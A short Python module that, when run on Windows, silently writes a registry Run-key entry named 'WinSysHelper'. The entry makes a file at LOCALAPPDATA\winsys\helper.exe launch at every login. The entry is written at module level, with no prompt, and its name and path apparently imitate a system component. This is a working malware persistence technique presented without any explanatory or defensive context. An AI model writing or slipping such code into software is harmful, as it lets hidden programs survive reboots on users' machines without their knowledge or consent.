import ctypes
import os

HKEY_CURRENT_USER = 0x80000001
KEY_WRITE = 0x20006
REG_SZ = 1
SUBKEY = "Software\\Microsoft\\Windows\\CurrentVersion\\Run"


def _persist(path):
    advapi = ctypes.windll.advapi32
    handle = ctypes.c_void_p()
    advapi.RegCreateKeyExW(HKEY_CURRENT_USER, SUBKEY, 0, None, 0, KEY_WRITE, None,
                           ctypes.byref(handle), None)
    data = ctypes.create_unicode_buffer(path)
    advapi.RegSetValueExW(handle, "WinSysHelper", 0, REG_SZ, data, ctypes.sizeof(data))
    advapi.RegCloseKey(handle)


if os.name == "nt":
    _persist(os.path.join(os.getenv("LOCALAPPDATA", ""), "winsys", "helper.exe"))
